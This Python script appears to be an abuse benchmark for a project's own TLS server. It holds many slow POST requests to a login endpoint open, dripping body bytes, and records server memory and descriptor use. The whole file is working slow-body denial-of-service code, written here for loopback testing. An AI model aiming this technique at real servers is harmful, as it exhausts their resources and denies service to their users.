#!/usr/bin/env python3
"""Slow request bodies (issue 10, finding 1): CONNS connections spread over SOURCES loopback
addresses each send a POST head announcing BODY bytes, PREFILL bytes of it at once (what the
server buffers), then one byte every DRIP seconds, for HOLD seconds. Samples the server's RSS,
descriptors and how many attack connections are still open. Bounded; loopback only.

  python3 bench/abuse/slow_body.py --port 4433 --pid $(pidof tern) [--conns 400 --sources 8]
"""
import argparse
import threading
import time

from common import open_fds, rss_mb, tls_connect


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--pin", default=None)
    p.add_argument("--conns", type=int, default=400)
    p.add_argument("--sources", type=int, default=8, help="source addresses 127.0.1.1 ..")
    p.add_argument("--body", type=int, default=1024 * 1024)
    p.add_argument("--prefill", type=int, default=1024 * 1024 - 1024)
    p.add_argument("--drip", type=float, default=4.0)
    p.add_argument("--hold", type=float, default=60.0)
    args = p.parse_args()
    lock = threading.Lock()
    state = {"open": 0, "refused": 0, "closed_by_server": 0}

    def one(i):
        source = f"127.0.1.{1 + i % args.sources}"
        try:
            s = tls_connect(args.host, args.port, alpn=["http/1.1"], source=source, pin=args.pin)
            head = (f"POST /api/v1/login HTTP/1.1\r\nHost: {args.host}\r\n"
                    f"Content-Type: application/json\r\nContent-Length: {args.body}\r\n\r\n")
            s.sendall(head.encode() + b"{" + b" " * (args.prefill - 1))
        except OSError:
            with lock:
                state["refused"] += 1
            return
        with lock:
            state["open"] += 1
        end = time.time() + args.hold
        sent = args.prefill
        try:
            s.settimeout(args.drip)
            while time.time() < end and sent < args.body - 1:
                try:
                    data = s.recv(4096)
                    if not data:
                        raise OSError("closed")
                except TimeoutError:
                    pass
                s.sendall(b" ")
                sent += 1
        except OSError:
            with lock:
                state["closed_by_server"] += 1
        finally:
            with lock:
                state["open"] -= 1
            s.close()

    before = rss_mb(args.pid)
    threads = []
    for i in range(args.conns):
        t = threading.Thread(target=one, args=(i,), daemon=True)
        t.start()
        threads.append(t)
    start = time.time()
    peak = before
    while any(t.is_alive() for t in threads):
        time.sleep(2)
        rss = rss_mb(args.pid)
        peak = max(peak, rss)
        with lock:
            print(f"t={time.time()-start:4.0f}s rss={rss:7.1f} MB fds={open_fds(args.pid)} "
                  f"open={state['open']} refused={state['refused']} "
                  f"closed_by_server={state['closed_by_server']}", flush=True)
    print(f"RESULT rss_before_mb={before:.1f} rss_peak_mb={peak:.1f} "
          f"rss_after_mb={rss_mb(args.pid):.1f} refused={state['refused']} "
          f"closed_by_server={state['closed_by_server']} of {args.conns}")


if __name__ == "__main__":
    main()
